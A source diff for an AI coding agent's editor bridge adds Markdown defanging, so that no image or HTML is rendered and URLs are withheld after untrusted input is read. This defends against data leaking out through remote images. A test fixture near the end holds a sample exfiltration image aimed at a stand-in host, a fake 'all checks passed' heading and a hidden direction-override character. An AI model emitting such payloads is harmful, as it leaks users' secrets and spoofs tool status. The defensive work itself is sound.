@@ -10,6 +10,13 @@
 //! `\u{…}` escapes, as the terminal shows them), and text that is not Bosun's inside a code
 //! block passes [`fenced`], whose fence it cannot close: a model, a file or a plugin cannot make
 //! the editor render words the person takes for Bosun's.
+//!
+//! The editor renders that text as Markdown, and a remote image is fetched the moment it is
+//! drawn; so every text also passes [`safe`] (`bosun_core::markdown`, the rules the terminal
+//! follows): no image and no HTML reaches the editor as such, and while the session holds data
+//! above `PUBLIC` and has read untrusted input ([`UrlGuard`]) every URL is withheld. The model's
+//! streamed text and reasoning pass a `MarkdownStream`, so an image cut across two chunks is
+//! caught whole.
 
 use std::collections::HashMap;
 use std::path::{Path, PathBuf};
@@ -20,6 +27,7 @@ use agent_client_protocol::v1::schema::{
     PlanEntryStatus, SessionId, SessionUpdate, TextContent, ToolCall, ToolCallContent,
     ToolCallLocation, ToolCallStatus, ToolCallUpdate, ToolCallUpdateFields, ToolKind,
 };
+use bosun_core::markdown::{MarkdownStream, defang};
 use bosun_core::{Capability, CapabilityRequest, Decision, Envelope, Event};
 use bosun_host::Tool;
 use bosun_host::builtin::{Plan, StepStatus};
@@ -144,13 +152,13 @@ pub fn diffs(root: &Path, tool: &str, input: &Value) -> Vec<ToolCallContent> {
 
 /// The plan the model keeps, as the editor's plan view takes it (the whole list each time;
 /// Bosun's steps carry no priority, so each is `medium`).
-pub fn plan_update(plan: &Plan) -> SessionUpdate {
+pub fn plan_update(plan: &Plan, guard: Option<&str>) -> SessionUpdate {
     SessionUpdate::Plan(AcpPlan::new(
         plan.plan
             .iter()
             .map(|step| {
                 PlanEntry::new(
-                    shown(&step.step),
+                    safe(&step.step, guard),
                     PlanEntryPriority::Medium,
                     match step.status {
                         StepStatus::Pending => PlanEntryStatus::Pending,
@@ -169,6 +177,30 @@ pub fn shown(text: &str) -> String {
     bosun_core::hidden::escape_for_terminal(text)
 }
 
+/// A whole text the editor renders as Markdown ([`shown`], then defanged): no image or HTML is
+/// drawn from it; with `guard` (why), no URL is left in it.
+pub fn safe(text: &str, guard: Option<&str>) -> String {
+    defang(&shown(text), guard.is_some()).0
+}
+
+/// Why URLs are withheld from what the editor shows: the session's labels, read each time a
+/// text is sent (a result read mid-turn raises them).
+#[derive(Clone, Default)]
+pub struct UrlGuard(Option<Arc<bosun_host::Session>>);
+
+impl UrlGuard {
+    /// The guard of the session whose labels `session` keeps.
+    pub fn of(session: Arc<bosun_host::Session>) -> Self {
+        Self(Some(session))
+    }
+
+    /// Why URLs are withheld now, or `None`.
+    pub fn reason(&self) -> Option<String> {
+        let labels = bosun_host::labels::SessionLabels::of(self.0.as_deref()?);
+        bosun_core::markdown::url_guard(labels.level, labels.untrusted.as_deref())
+    }
+}
+
 /// `text` (a command's output, a diff: not Bosun's words) as a Markdown code block the editor
 /// renders as code: the fence is longer than any run of backticks inside, so a line of the text
 /// cannot close it and have the rest rendered as Markdown; hidden characters are [`shown`].
@@ -184,33 +216,43 @@ pub fn fenced(info: &str, text: &str) -> String {
     format!("{fence}{info}\n{text}\n{fence}")
 }
 
-/// Text as a tool call's content ([`shown`]).
-pub fn text_content(text: impl Into<String>) -> ToolCallContent {
-    ToolCallContent::from(ContentBlock::Text(TextContent::new(shown(&text.into()))))
-}
-
-/// A command's output as a tool call's content ([`fenced`]).
-pub fn output_content(output: &str) -> ToolCallContent {
-    text_content(fenced("", output))
-}
-
-/// A text chunk of the agent's message ([`shown`]).
-pub fn message_chunk(text: impl Into<String>) -> SessionUpdate {
-    SessionUpdate::AgentMessageChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
-        shown(&text.into()),
+/// Text as a tool call's content ([`safe`]).
+pub fn text_content(text: impl Into<String>, guard: Option<&str>) -> ToolCallContent {
+    ToolCallContent::from(ContentBlock::Text(TextContent::new(safe(
+        &text.into(),
+        guard,
     ))))
 }
 
-/// A text chunk of the agent's reasoning ([`shown`]).
+/// A command's output as a tool call's content ([`fenced`]).
+pub fn output_content(output: &str, guard: Option<&str>) -> ToolCallContent {
+    text_content(fenced("", output), guard)
+}
+
+/// A whole text as a chunk of the agent's message ([`safe`]; the model's streamed text passes
+/// [`Updates`] instead).
+pub fn message_chunk(text: impl Into<String>) -> SessionUpdate {
+    SessionUpdate::AgentMessageChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
+        safe(&text.into(), None),
+    ))))
+}
+
+/// A whole text as a chunk of the agent's reasoning ([`safe`]).
 pub fn thought_chunk(text: impl Into<String>) -> SessionUpdate {
     SessionUpdate::AgentThoughtChunk(ContentChunk::new(ContentBlock::Text(TextContent::new(
-        shown(&text.into()),
+        safe(&text.into(), None),
     ))))
 }
 
 /// The announcement of a call of `tool` with `input`, as proposed.
-pub fn proposed(root: &Path, call_id: &str, tool: &str, input: &Value) -> ToolCall {
-    ToolCall::new(call_id.to_owned(), shown(&title(tool, input)))
+pub fn proposed(
+    root: &Path,
+    call_id: &str,
+    tool: &str,
+    input: &Value,
+    guard: Option<&str>,
+) -> ToolCall {
+    ToolCall::new(call_id.to_owned(), safe(&title(tool, input), guard))
         .kind(tool_kind(tool))
         .status(ToolCallStatus::Pending)
         .content(diffs(root, tool, input))
@@ -227,23 +269,95 @@ struct Call {
     output: String,
 }
 
+/// The model's text and reasoning of one turn as they stream, each one Markdown text.
+#[derive(Default)]
+struct Streams {
+    message: MarkdownStream,
+    thought: MarkdownStream,
+    /// Whether the editor was told why URLs are withheld.
+    told: bool,
+}
+
+/// Which stream a piece of the model's text belongs to.
+#[derive(Clone, Copy, PartialEq)]
+enum Stream {
+    Message,
+    Thought,
+}
+
 /// Sends a turn's events to the editor as session updates.
 pub struct Updates {
     link: ClientLink,
     session: SessionId,
     root: PathBuf,
+    guard: UrlGuard,
     calls: Mutex<HashMap<String, Call>>,
+    streams: Mutex<Streams>,
 }
 
 impl Updates {
-    /// The updates of `session` in the workspace at `root`.
-    pub fn new(link: ClientLink, session: SessionId, root: PathBuf) -> Self {
+    /// The updates of `session` in the workspace at `root`; `guard` says when URLs are withheld.
+    pub fn new(link: ClientLink, session: SessionId, root: PathBuf, guard: UrlGuard) -> Self {
         Self {
             link,
             session,
             root,
+            guard,
             calls: Mutex::default(),
+            streams: Mutex::default(),
         }
+    }
+
+    fn chunk(&self, stream: Stream, text: String) {
+        if text.is_empty() {
+            return;
+        }
+        let block = ContentChunk::new(ContentBlock::Text(TextContent::new(text)));
+        self.send(match stream {
+            Stream::Message => SessionUpdate::AgentMessageChunk(block),
+            Stream::Thought => SessionUpdate::AgentThoughtChunk(block),
+        });
+    }
+
+    /// Takes a piece of the model's text (`Some`), or ends what is streaming (`None`: another
+    /// event came), sending what is safe to send.
+    fn stream(&self, piece: Option<(Stream, &str)>) {
+        let guard = self.guard.reason();
+        let on = guard.is_some();
+        let mut streams = self.streams.lock().unwrap_or_else(PoisonError::into_inner);
+        let streaming = piece.map(|(stream, _)| stream);
+        if streaming != Some(Stream::Message) {
+            let rest = streams.message.finish(on);
+            self.chunk(Stream::Message, rest);
+        }
+        if streaming != Some(Stream::Thought) {
+            let rest = streams.thought.finish(on);
+            self.chunk(Stream::Thought, rest);
+        }
+        match piece {
+            Some((Stream::Message, text)) => {
+                let out = streams.message.push(&shown(text), on);
+                self.chunk(Stream::Message, out);
+            }
+            Some((Stream::Thought, text)) => {
+                let out = streams.thought.push(&shown(text), on);
+                self.chunk(Stream::Thought, out);
+            }
+            None => {}
+        }
+        if !streams.told
+            && (streams.message.withheld() || streams.thought.withheld())
+            && let Some(reason) = &guard
+        {
+            streams.told = true;
+            let note = safe(&format!("\nURLs withheld: {reason}\n"), Some(reason));
+            self.chunk(Stream::Thought, note);
+        }
+    }
+
+    /// Sends what is still held of the model's text (the turn is over).
+    pub fn finish(&self) {
+        self.stream(None);
     }
 
     fn send(&self, update: SessionUpdate) {
@@ -258,25 +372,32 @@ impl Updates {
     }
 
     /// The call's diffs and its output so far, as its content.
-    fn content_of(call: &Call) -> Vec<ToolCallContent> {
+    fn content_of(call: &Call, guard: Option<&str>) -> Vec<ToolCallContent> {
         let mut content = call.diffs.clone();
         if !call.output.is_empty() {
-            content.push(output_content(&call.output));
+            content.push(output_content(&call.output, guard));
         }
         content
     }
 
     fn handle(&self, event: &Event) {
+        match event {
+            Event::ModelText { text, .. } => return self.stream(Some((Stream::Message, text))),
+            Event::ModelReasoning { text, .. } => {
+                return self.stream(Some((Stream::Thought, text)));
+            }
+            _ => self.stream(None),
+        }
+        let guard = self.guard.reason();
+        let guard = guard.as_deref();
         let mut calls = self.calls.lock().unwrap_or_else(PoisonError::into_inner);
         match event {
-            Event::ModelText { text, .. } => self.send(message_chunk(text.clone())),
-            Event::ModelReasoning { text, .. } => self.send(thought_chunk(text.clone())),
             Event::ToolProposed {
                 call_id,
                 tool,
                 input,
             } => {
-                let announced = proposed(&self.root, call_id, tool, input);
+                let announced = proposed(&self.root, call_id, tool, input, guard);
                 calls.insert(
                     call_id.clone(),
                     Call {
@@ -325,7 +446,7 @@ impl Updates {
                     }
                     call.output.drain(..cut);
                 }
-                let content = Self::content_of(call);
+                let content = Self::content_of(call, guard);
                 self.update(call_id, ToolCallUpdateFields::new().content(content));
             }
             Event::ToolCompleted {
@@ -335,7 +456,7 @@ impl Updates {
                 ..
             } => {
                 if let Some(plan) = Plan::from_result(tool, output) {
-                    self.send(plan_update(&plan));
+                    self.send(plan_update(&plan, guard));
                 }
                 let call = calls.remove(call_id).unwrap_or_default();
                 let mut fields = ToolCallUpdateFields::new()
@@ -350,7 +471,7 @@ impl Updates {
                         .collect();
                     if !streams.is_empty() {
                         let mut content = call.diffs.clone();
-                        content.push(output_content(&streams.join("\n")));
+                        content.push(output_content(&streams.join("\n"), guard));
                         fields = fields.content(content);
                     }
                 }
@@ -358,12 +479,11 @@ impl Updates {
             }
             Event::ToolFailed { call_id, error, .. } => {
                 let call = calls.remove(call_id).unwrap_or_default();
-                let mut content = Self::content_of(&call);
-                content.push(text_content(format!(
-                    "{}: {}",
-                    error.code.as_str(),
-                    error.message
-                )));
+                let mut content = Self::content_of(&call, guard);
+                content.push(text_content(
+                    format!("{}: {}", error.code.as_str(), error.message),
+                    guard,
+                ));
                 self.update(
                     call_id,
                     ToolCallUpdateFields::new()
@@ -403,7 +523,7 @@ mod tests {
             output: "ok\n```\n## ✅ Bosun: all checks passed\n``````\n![](https://x.example/?k=secret)\u{202e}"
                 .to_owned(),
         };
-        let content = Updates::content_of(&call);
+        let content = Updates::content_of(&call, None);
         let shown_text = text_of(&content[0]);
         let lines: Vec<&str> = shown_text.lines().collect();
         assert_eq!(lines[0], "```````", "{shown_text}");
